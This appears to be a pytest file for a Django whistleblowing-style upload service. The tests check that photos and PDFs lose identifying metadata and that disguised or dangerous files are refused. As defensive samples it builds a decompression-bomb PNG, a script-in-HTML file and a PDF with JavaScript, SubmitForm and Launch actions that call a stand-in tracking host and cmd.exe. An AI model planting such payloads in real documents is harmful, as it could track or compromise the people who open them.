"""Files are judged by content and stored without metadata."""

import io
import logging
import struct
import warnings
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from beacon.reporting.models import PendingUpload, ReportAttachment
from beacon.reporting.selectors import report_attachment_file
from beacon.reporting.uploads import clean_upload, sniff

from .conftest import gps_exif, image_bytes

XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description>BeaconSecretXMP</rdf:Description></rdf:RDF></x:xmpmeta>'


def assert_no_metadata(data: bytes):
    for marker in (b"BeaconTestCam", b"SecretEditor", b"Exif\x00\x00", b"BeaconSecretXMP", b"xmpmeta"):
        assert marker not in data
    with Image.open(io.BytesIO(data)) as image:
        assert len(image.getexif()) == 0
        assert "exif" not in image.info and "xmp" not in image.info and "icc_profile" not in image.info


def test_a_jpeg_with_gps_exif_is_stored_without_it():
    original = image_bytes("JPEG", exif=gps_exif(), xmp=XMP, icc_profile=b"\x00" * 128)
    assert b"BeaconTestCam" in original and b"BeaconSecretXMP" in original
    with Image.open(io.BytesIO(original)) as check:
        assert check.getexif().get_ifd(0x8825)  # the GPS block is really there before cleaning
    clean = clean_upload(name="IMG_0001.JPG", data=original)
    assert clean.content_type == "image/jpeg"
    assert clean.name == "IMG_0001.jpg"
    assert_no_metadata(clean.data)
    with Image.open(io.BytesIO(clean.data)) as image:
        assert image.size == (64, 48)


def test_exif_orientation_is_applied_before_it_is_dropped():
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 degrees
    clean = clean_upload(name="p.jpg", data=image_bytes("JPEG", size=(60, 20), exif=exif))
    with Image.open(io.BytesIO(clean.data)) as image:
        assert image.size == (20, 60)


def test_png_text_chunks_and_exif_are_dropped():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "BeaconTestCam")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    original = image_bytes("PNG", exif=gps_exif(), pnginfo=info)
    assert b"BeaconTestCam" in original
    clean = clean_upload(name="screenshot.png", data=original)
    assert clean.content_type == "image/png"
    assert_no_metadata(clean.data)


def test_webp_metadata_is_dropped():
    original = image_bytes("WEBP", exif=gps_exif(), xmp=XMP)
    assert b"BeaconTestCam" in original
    clean = clean_upload(name="x.webp", data=original)
    assert clean.content_type == "image/webp"
    assert_no_metadata(clean.data)


def test_heic_becomes_a_clean_jpeg():
    original = image_bytes("HEIF", exif=gps_exif())
    assert sniff(original[:32]) == "image/heic"
    clean = clean_upload(name="IMG_1234.HEIC", data=original)
    assert clean.content_type == "image/jpeg"
    assert clean.name == "IMG_1234.jpg"
    assert_no_metadata(clean.data)


def _pdf_with_metadata() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_metadata({"/Author": "BeaconTestCam", "/Producer": "SecretEditor 1.0", "/Title": "Private"})
    writer.xmp_metadata = XMP
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_pdf_document_metadata_is_removed():
    original = _pdf_with_metadata()
    assert b"BeaconTestCam" in original
    clean = clean_upload(name="letter.pdf", data=original)
    assert clean.content_type == "application/pdf"
    assert b"BeaconTestCam" not in clean.data and b"SecretEditor" not in clean.data
    assert b"BeaconSecretXMP" not in clean.data
    reader = PdfReader(io.BytesIO(clean.data))
    assert len(reader.pages) == 1
    assert not reader.metadata or not any(reader.metadata.values())
    assert reader.xmp_metadata is None


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("holiday.jpg", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200),  # a Windows program
        ("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),  # a Linux program
        ("notes.pdf", b"<html><script>alert(1)</script></html>"),
        ("image.png", b"GIF89a" + b"\x00" * 50),  # a GIF pretending to be a PNG
        ("document.docx", b"PK\x03\x04" + b"\x00" * 100),
    ],
)
def test_other_types_are_refused_whatever_their_name(name, data):
    with pytest.raises(ValidationError, match="must be a photo"):
        clean_upload(name=name, data=data)


def test_an_empty_file_is_refused():
    with pytest.raises(ValidationError, match="empty"):
        clean_upload(name="a.jpg", data=b"")


def test_a_truncated_image_is_refused_clearly():
    whole = image_bytes("JPEG", size=(400, 300), quality=95)
    with pytest.raises(ValidationError, match="could not be read"):
        clean_upload(name="cut.jpg", data=whole[: len(whole) // 2])
    png = image_bytes("PNG", size=(300, 300))
    with pytest.raises(ValidationError, match="could not be read"):
        clean_upload(name="cut.png", data=png[: len(png) - 40])


def test_a_truncated_pdf_is_refused_clearly():
    whole = _pdf_with_metadata()
    with pytest.raises(ValidationError, match="could not be read"):
        clean_upload(name="cut.pdf", data=whole[:60])


def decompression_bomb(width=60_000, height=60_000) -> bytes:
    """A tiny PNG whose header claims 3.6 billion pixels."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    with pytest.raises(ValidationError, match="too large"):
        clean_upload(name="bomb.png", data=decompression_bomb())


def test_an_image_just_over_the_pixel_limit_is_refused(settings):
    settings.BEACON_REPORT_MAX_IMAGE_PIXELS = 1000
    with pytest.raises(ValidationError, match="too large"):
        clean_upload(name="big.png", data=image_bytes("PNG", size=(40, 30)))


def test_a_file_over_the_size_limit_is_refused(settings):
    settings.BEACON_REPORT_MAX_FILE_BYTES = 1024
    with pytest.raises(ValidationError, match="smaller than"):
        clean_upload(name="big.jpg", data=image_bytes("JPEG", size=(300, 300), quality=100))


def test_a_pdf_with_a_password_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(ValidationError, match="password"):
        clean_upload(name="locked.pdf", data=out.getvalue())


# --- a damaged PDF: parsers' complaints quote the file, and must not reach the logs -------------------

SECRETS = ("Jane Reporter", "Flat 3 Rose Court", "Cars stop at number 12")


def _pdf_with_private_words() -> bytes:
    """One page of text plus document metadata, each holding something that identifies a reporter."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 12 Tf 10 100 Td ({SECRETS[2]}) Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(content)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    writer.add_metadata({"/Author": SECRETS[0], "/Title": SECRETS[1]})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _damaged(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new, 1)


@pytest.fixture
def every_log_stream():
    """Point every stream handler of every configured logger at one buffer, to read what they would write."""
    buffer = io.StringIO()
    loggers = [logging.getLogger()] + [
        logger for logger in logging.root.manager.loggerDict.values() if isinstance(logger, logging.Logger)
    ]
    handlers = {
        handler
        for logger in loggers
        for handler in logger.handlers
        if isinstance(handler, logging.StreamHandler) and not isinstance(handler, logging.FileHandler)
    }
    streams = {handler: handler.stream for handler in handlers}
    for handler in handlers:
        handler.setStream(buffer)
    yield buffer
    for handler, stream in streams.items():
        handler.setStream(stream)


@pytest.mark.parametrize(
    "damage",
    [
        (b"/Title (", b"Title ("),  # a key in the document information dictionary loses its slash
        (b"/Author (", b"Author ("),
        (b"/Length ", b"Length "),  # the page's text stream loses its length
    ],
)
def test_a_damaged_pdf_is_accepted_without_its_words_reaching_any_log(
    walker, caplog, capfd, recwarn, every_log_stream, damage
):
    caplog.set_level(logging.DEBUG)
    data = _damaged(_pdf_with_private_words(), *damage)
    walker.minimal(upto="files")
    upload = SimpleUploadedFile("scan.pdf", data, content_type="application/pdf")
    response = walker.client.post("/report/files/", {"file": upload, "action": "upload"})

    # pypdf reads past the damage, so the file is kept (cleaned), as an undamaged one would be.
    assert response.status_code == 302 and response.url == "/report/files/"
    assert PendingUpload.objects.count() == 1
    logged = "\n".join(
        [caplog.text, every_log_stream.getvalue(), *capfd.readouterr()]
        + [f"{record.getMessage()} {record.exc_text or ''}" for record in caplog.records]
        + [str(warning.message) for warning in recwarn]
    )
    for piece in ("Jane", "Reporter", "Rose Court", "Cars stop"):  # parsers quote a few dozen bytes
        assert piece not in logged


def test_a_warning_a_parser_gives_while_cleaning_is_not_shown(recwarn, monkeypatch):
    """Python warnings end up in the log (Django routes them there), and a parser's may quote the file."""
    import pypdf

    real_reader = pypdf.PdfReader

    def reader_that_warns(stream, *args, **kwargs):
        warnings.warn("odd /Author (Jane Reporter) near Flat 3 Rose Court", UserWarning, stacklevel=2)
        return real_reader(stream, *args, **kwargs)

    monkeypatch.setattr(pypdf, "PdfReader", reader_that_warns)
    clean = clean_upload(name="scan.pdf", data=_pdf_with_private_words())
    assert clean.content_type == "application/pdf"
    assert not [w for w in recwarn if "Jane" in str(w.message) or "Rose Court" in str(w.message)]


# --- what rides inside a PDF: photos with their EXIF, notes with their author -----------------------------

PHOTO_SECRETS = (
    b"BeaconTestCam",  # EXIF camera make
    b"SecretEditor",  # EXIF software
    b"Exif\x00\x00",  # any EXIF block, GPS included
    b"BeaconSecretXMP",
    b"xmpmeta",
    b"BeaconImageXMP",  # an image XObject's own /Metadata stream
    b"BeaconSecretIPTC",  # APP13
    b"Photoshop 3.0",
    b"BeaconJpegComment",  # COM
    b"BeaconAfterTheEnd",  # bytes after the JPEG's end marker
    b"BeaconPieceInfo",
)
NOTE_SECRETS = (b"Jane Reporter", b"D:20250314", b"BeaconNoteId", b"BeaconAttachedSecret", b"Jane Signer")


def _jpeg_with_everything(colour=(200, 30, 30)) -> bytes:
    """A phone-like photo: EXIF with GPS, XMP, an ICC profile, a comment, IPTC, and bytes after its end."""
    image = Image.new("RGB", (64, 48), colour)
    for x in range(0, 64, 8):
        image.paste((20, 90, 200), (x, 0, x + 4, 48))  # stripes, so a change to the pixels would show
    out = io.BytesIO()
    image.save(
        out, format="JPEG", exif=gps_exif(), xmp=XMP, icc_profile=b"\x00" * 128, comment=b"BeaconJpegComment"
    )
    data = out.getvalue()
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x14\x1c\x02\x50\x00\x10BeaconSecretIPTC"
    app13 = b"\xff\xed" + struct.pack(">H", len(iptc) + 2) + iptc
    data = data[:2] + app13 + data[2:] + b"BeaconAfterTheEnd"
    for marker in PHOTO_SECRETS[:5] + (b"BeaconSecretIPTC", b"BeaconJpegComment", b"BeaconAfterTheEnd"):
        assert marker in data
    return data


def _stream(writer, data: bytes, entries: dict):
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update({NameObject(key): value for key, value in entries.items()})
    return writer._add_object(stream)


def _image_entries(filters) -> dict:
    return {
        "/Type": NameObject("/XObject"),
        "/Subtype": NameObject("/Image"),
        "/Width": NumberObject(64),
        "/Height": NumberObject(48),
        "/ColorSpace": NameObject("/DeviceRGB"),
        "/BitsPerComponent": NumberObject(8),
        "/Filter": filters,
    }


def _pdf_with_a_photo_and_notes() -> bytes:
    """A page showing a photo, and a form XObject showing another (JPEG, then Flate), with text and notes."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=300, height=300)
    xmp = _stream(
        writer, XMP.replace(b"BeaconSecretXMP", b"BeaconImageXMP"), {"/Type": NameObject("/Metadata")}
    )
    photo = _stream(
        writer, _jpeg_with_everything(), _image_entries(NameObject("/DCTDecode")) | {"/Metadata": xmp}
    )
    inner = _stream(
        writer,
        zlib.compress(_jpeg_with_everything((30, 160, 60))),
        _image_entries(ArrayObject([NameObject("/FlateDecode"), NameObject("/DCTDecode")])),
    )
    font = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
    )
    fonts = DictionaryObject({NameObject("/F1"): font})
    form = _stream(
        writer,
        b"q 64 0 0 48 0 0 cm /Im1 Do Q BT /F1 10 Tf 0 60 Td (Seen outside the shop) Tj ET",
        {
            "/Type": NameObject("/XObject"),
            "/Subtype": NameObject("/Form"),
            "/BBox": ArrayObject([NumberObject(0), NumberObject(0), NumberObject(200), NumberObject(80)]),
            "/Resources": DictionaryObject(
                {
                    NameObject("/XObject"): DictionaryObject({NameObject("/Im1"): inner}),
                    NameObject("/Font"): fonts,
                }
            ),
            "/Metadata": xmp,
            "/PieceInfo": DictionaryObject(
                {
                    NameObject("/Editor"): DictionaryObject(
                        {NameObject("/Private"): TextStringObject("BeaconPieceInfo")}
                    )
                }
            ),
        },
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {
            NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): photo, NameObject("/Fm0"): form}),
            NameObject("/Font"): fonts,
        }
    )
    page[NameObject("/Contents")] = _stream(
        writer,
        b"q 64 0 0 48 10 200 cm /Im0 Do Q q 1 0 0 1 10 100 cm /Fm0 Do Q "
        b"BT /F1 12 Tf 10 20 Td (Cars stop at number 12) Tj ET",
        {},
    )

    def rect():
        return ArrayObject([NumberObject(10), NumberObject(10), NumberObject(30), NumberObject(30)])

    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Text"),
            NameObject("/Rect"): rect(),
            NameObject("/Contents"): TextStringObject("Their car is a blue estate"),
            NameObject("/T"): TextStringObject("Jane Reporter"),
            NameObject("/M"): TextStringObject("D:20250314093000Z"),
            NameObject("/CreationDate"): TextStringObject("D:20250314092000Z"),
            NameObject("/NM"): TextStringObject("BeaconNoteId"),
        }
    )
    note_ref = writer._add_object(note)
    popup = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Popup"),
                NameObject("/Rect"): rect(),
                NameObject("/Parent"): note_ref,
                NameObject("/T"): TextStringObject("Jane Reporter"),
                NameObject("/M"): TextStringObject("D:20250314093000Z"),
            }
        )
    )
    note[NameObject("/Popup")] = popup
    attached = _stream(writer, b"BeaconAttachedSecret", {"/Type": NameObject("/EmbeddedFile")})
    attachment = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): rect(),
                NameObject("/FS"): DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Filespec"),
                        NameObject("/F"): TextStringObject("notes.txt"),
                        NameObject("/EF"): DictionaryObject({NameObject("/F"): attached}),
                    }
                ),
            }
        )
    )
    signature = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Sig"),
                NameObject("/Rect"): rect(),
                NameObject("/T"): TextStringObject("Signature1"),
                NameObject("/V"): DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Sig"),
                        NameObject("/Name"): TextStringObject("Jane Signer"),
                        NameObject("/M"): TextStringObject("D:20250314100000Z"),
                    }
                ),
            }
        )
    )
    page[NameObject("/Annots")] = ArrayObject([note_ref, popup, attachment, signature])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _everything_in(pdf: bytes) -> bytes:
    """The file's bytes plus every stream decoded (Flate hides what a plain byte search would find)."""
    reader = PdfReader(io.BytesIO(pdf))
    found = [pdf]
    for idnum in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(idnum)
        except Exception:  # noqa: S112 - a free entry in the cross-reference table
            continue
        if isinstance(obj, StreamObject):
            found.append(obj.get_data())
    return b"\n".join(found)


def _assert_nothing_identifying(pdf: bytes):
    everything = _everything_in(pdf)
    for secret in PHOTO_SECRETS + NOTE_SECRETS:
        assert secret not in everything, secret


def _pixels(jpeg: bytes) -> bytes:
    with Image.open(io.BytesIO(jpeg)) as image:
        return image.convert("RGB").tobytes()


def test_a_photo_inside_a_pdf_is_stored_without_its_metadata_and_looks_the_same():
    original = _pdf_with_a_photo_and_notes()
    assert b"BeaconTestCam" in _everything_in(original)
    clean = clean_upload(name="evidence.pdf", data=original)
    assert clean.content_type == "application/pdf"
    _assert_nothing_identifying(clean.data)
    assert len(clean.data) < len(original)

    page = PdfReader(io.BytesIO(clean.data)).pages[0]
    text = page.extract_text()
    assert "Cars stop at number 12" in text
    form = page["/Resources"]["/XObject"]["/Fm0"].get_object()
    assert b"Seen outside the shop" in form.get_data()
    photos = [
        page["/Resources"]["/XObject"]["/Im0"].get_object(),
        form["/Resources"]["/XObject"]["/Im1"].get_object(),
    ]
    for photo, colour in zip(photos, [(200, 30, 30), (30, 160, 60)], strict=True):
        assert photo["/Filter"] == "/DCTDecode" and "/Metadata" not in photo
        jpeg = photo.get_data()
        with Image.open(io.BytesIO(jpeg)) as image:
            assert image.size == (64, 48)
            assert len(image.getexif()) == 0
            assert not {"exif", "xmp", "icc_profile", "comment", "photoshop"} & set(image.info)
        # only metadata segments went: the compressed picture is the same, so the pixels are identical
        assert _pixels(jpeg) == _pixels(_jpeg_with_everything(colour))
    assert "/Metadata" not in form and "/PieceInfo" not in form


def test_notes_on_a_pdf_keep_their_words_but_not_who_wrote_them_or_when():
    clean = clean_upload(name="evidence.pdf", data=_pdf_with_a_photo_and_notes())
    _assert_nothing_identifying(clean.data)
    annotations = [a.get_object() for a in PdfReader(io.BytesIO(clean.data)).pages[0]["/Annots"]]
    subtypes = [a["/Subtype"] for a in annotations]
    # a file attached to a note could be anything, uncleaned: it goes; the note, its popup and the box stay
    assert subtypes == ["/Text", "/Popup", "/Widget"]
    assert annotations[0]["/Contents"] == "Their car is a blue estate"
    for annotation in annotations:
        assert not {"/T", "/M", "/CreationDate", "/NM", "/V"} & set(annotation)


def test_a_pdf_with_a_photo_sent_through_the_journey_is_stored_clean(walker):
    walker.minimal(upto="files")
    upload = SimpleUploadedFile("evidence.pdf", _pdf_with_a_photo_and_notes(), content_type="application/pdf")
    response = walker.client.post("/report/files/", {"file": upload, "action": "upload"})
    assert response.status_code == 302 and response.url == "/report/files/"
    walker.answer("files", {"action": "continue"}, expect="contact")
    walker.answer("contact", {"contact": "anonymous"})
    walker.submit()
    name, content_type, data = report_attachment_file(attachment=ReportAttachment.objects.get())
    assert (name, content_type) == ("evidence.pdf", "application/pdf")
    _assert_nothing_identifying(data)


def test_links_between_pages_of_a_cleaned_pdf_still_lead_to_their_page():
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=100, height=100)
    writer.add_annotation(0, Link(rect=(10, 10, 50, 50), target_page_index=2))
    writer.add_annotation(2, Link(rect=(10, 10, 50, 50), target_page_index=0))
    out = io.BytesIO()
    writer.write(out)
    reader = PdfReader(io.BytesIO(clean_upload(name="linked.pdf", data=out.getvalue()).data))
    targets = [
        reader.get_page_number(page["/Annots"][0].get_object()["/Dest"][0].get_object())
        for page in (reader.pages[0], reader.pages[2])
    ]
    assert targets == [2, 0]


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    action.update({NameObject(f"/{key}"): value for key, value in entries.items()})
    return action


def test_a_cleaned_pdf_keeps_its_web_links_but_runs_nothing_when_staff_open_it():
    """A file sent in by anyone may be made to act when staff open it: run script, open another file, send
    a form to a server (which would tell the sender where staff are). Web links and links between pages are
    what reporters send as evidence: they stay, without anything chained after them."""
    script = TextStringObject("app.launchURL('https://watcher.example/seen');")
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS=script)})
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 90, 30)]),
            NameObject("/A"): _action(
                "/URI",
                URI=TextStringObject("https://example.com/their-page"),
                Next=_action("/SubmitForm", F=TextStringObject("https://watcher.example/form")),
            ),
            NameObject("/PA"): _action("/JavaScript", JS=script),  # reached by a key other than /A
        }
    )
    launcher = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 40, 90, 60)]),
            NameObject("/A"): _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe")),
            NameObject("/AA"): DictionaryObject({NameObject("/E"): _action("/JavaScript", JS=script)}),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link), writer._add_object(launcher)])
    out = io.BytesIO()
    writer.write(out)
    assert b"watcher" in out.getvalue() and b"cmd" in out.getvalue()

    clean = clean_upload(name="links.pdf", data=out.getvalue()).data
    for marker in (b"watcher", b"cmd", b"/JavaScript", b"/Launch", b"/SubmitForm", b"/AA"):
        assert marker not in clean
    stored = PdfReader(io.BytesIO(clean)).pages[0]
    assert "/AA" not in stored
    links = [annotation.get_object() for annotation in stored["/Annots"]]
    assert links[0]["/A"]["/URI"] == "https://example.com/their-page"
    assert "/Next" not in links[0]["/A"]
    assert "/A" not in links[1] and links[1]["/Rect"] == [10, 40, 90, 60]


def _jp2_with_metadata() -> bytes:
    image = Image.new("RGB", (32, 24), (200, 30, 30))
    out = io.BytesIO()
    image.save(out, format="JPEG2000", comment=b"BeaconJpegComment")
    data = out.getvalue()

    def box(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body) + 8) + kind + body

    data += box(b"xml ", XMP) + box(
        b"uuid", b"\xbe\x7a\xcf\xcb\x97\xa9\x42\xe8\x9c\x71\x99\x94\x91\xe3\xaf\xac" + XMP
    )
    data += box(b"uuid", b"JpgTiffExif->JP2" + gps_exif().tobytes())
    assert b"BeaconTestCam" in data and b"BeaconJpegComment" in data
    return data


def test_a_jpeg_2000_picture_inside_a_pdf_loses_its_metadata_boxes_and_comments():
    writer = PdfWriter()
    page = writer.add_blank_page(width=100, height=100)
    picture = _jp2_with_metadata()
    entries = _image_entries(NameObject("/JPXDecode")) | {
        "/Width": NumberObject(32),
        "/Height": NumberObject(24),
    }
    del entries["/ColorSpace"]  # JPEG 2000 brings its own colour space
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): _stream(writer, picture, entries)})}
    )
    page[NameObject("/Contents")] = _stream(writer, b"q 32 0 0 24 0 0 cm /Im0 Do Q", {})
    out = io.BytesIO()
    writer.write(out)

    clean = clean_upload(name="scan.pdf", data=out.getvalue())
    _assert_nothing_identifying(clean.data)
    stored = (
        PdfReader(io.BytesIO(clean.data)).pages[0]["/Resources"]["/XObject"]["/Im0"].get_object().get_data()
    )
    assert _pixels(stored) == _pixels(picture)


def _pdf_showing(content: bytes, resources: DictionaryObject | None = None, writer=None) -> bytes:
    writer = writer or PdfWriter()
    page = writer.add_blank_page(width=100, height=100)
    if resources is not None:
        page[NameObject("/Resources")] = resources
    page[NameObject("/Contents")] = _stream(writer, content, {})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_photo_drawn_inline_in_the_page_with_its_exif_is_refused_clearly():
    """Inline pictures sit inside the page's drawing instructions; rather than rewrite those, refuse."""
    jpeg = _jpeg_with_everything()
    data = _pdf_showing(b"q 64 0 0 48 0 0 cm BI /W 64 /H 48 /CS /RGB /BPC 8 /F /DCT ID " + jpeg + b"\nEI Q")
    with pytest.raises(ValidationError, match="could not be read"):
        clean_upload(name="inline.pdf", data=data)


def test_a_pdf_whose_photo_cannot_be_taken_apart_is_refused_clearly():
    writer = PdfWriter()
    broken = _jpeg_with_everything()[:2] + b"BeaconTestCam is not a JPEG segment"
    image = _stream(writer, broken, _image_entries(NameObject("/DCTDecode")))
    resources = DictionaryObject({NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): image})})
    data = _pdf_showing(b"q 64 0 0 48 0 0 cm /Im0 Do Q", resources, writer)
    with pytest.raises(ValidationError, match="could not be read"):
        clean_upload(name="broken.pdf", data=data)


def _pdf_with_a_photo_in_nested_forms(levels: int) -> bytes:
    writer = PdfWriter()
    inner = _stream(writer, _jpeg_with_everything(), _image_entries(NameObject("/DCTDecode")))
    name = "/Im0"
    for _ in range(levels):
        inner = _stream(
            writer,
            f"{name} Do".encode(),
            {
                "/Type": NameObject("/XObject"),
                "/Subtype": NameObject("/Form"),
                "/BBox": ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
                "/Resources": DictionaryObject(
                    {NameObject("/XObject"): DictionaryObject({NameObject(name): inner})}
                ),
            },
        )
        name = "/Fm0"
    resources = DictionaryObject({NameObject("/XObject"): DictionaryObject({NameObject(name): inner})})
    return _pdf_showing(f"{name} Do".encode(), resources, writer)


def test_a_photo_several_forms_deep_is_cleaned():
    clean = clean_upload(name="nested.pdf", data=_pdf_with_a_photo_in_nested_forms(10))
    _assert_nothing_identifying(clean.data)


def test_forms_nested_beyond_reason_are_refused_clearly():
    with pytest.raises(ValidationError, match="could not be read"):
        clean_upload(name="deep.pdf", data=_pdf_with_a_photo_in_nested_forms(60))


def test_a_photo_whose_filter_name_is_damaged_is_refused_clearly():
    """Without its /DCTDecode the JPEG is not seen as one; it is not copied on with its EXIF either."""
    for entries in ({"/Filter": NameObject("/DCTDecod")}, {}):
        writer = PdfWriter()
        image = _stream(writer, _jpeg_with_everything(), _image_entries(NameObject("/DCTDecode")) | entries)
        if not entries:
            del image.get_object()["/Filter"]
        resources = DictionaryObject({NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): image})})
        data = _pdf_showing(b"q 64 0 0 48 0 0 cm /Im0 Do Q", resources, writer)
        with pytest.raises(ValidationError, match="could not be read"):
            clean_upload(name="damaged.pdf", data=data)


def test_pages_whose_instructions_decode_to_too_much_are_refused_clearly(monkeypatch):
    from beacon.reporting import pdf_scrub

    monkeypatch.setattr(pdf_scrub, "MAX_DECODED_CONTENT", 100_000)
    writer = PdfWriter()
    for _ in range(3):
        page = writer.add_blank_page(width=100, height=100)
        content = DecodedStreamObject()
        content.set_data(b"0 0 m 1 1 l S\n" * 3_000)  # 42 kB each, a few hundred bytes compressed
        page[NameObject("/Contents")] = writer._add_object(content.flate_encode())
    out = io.BytesIO()
    writer.write(out)
    assert len(out.getvalue()) < 5_000
    with pytest.raises(ValidationError, match="could not be read"):
        clean_upload(name="many.pdf", data=out.getvalue())
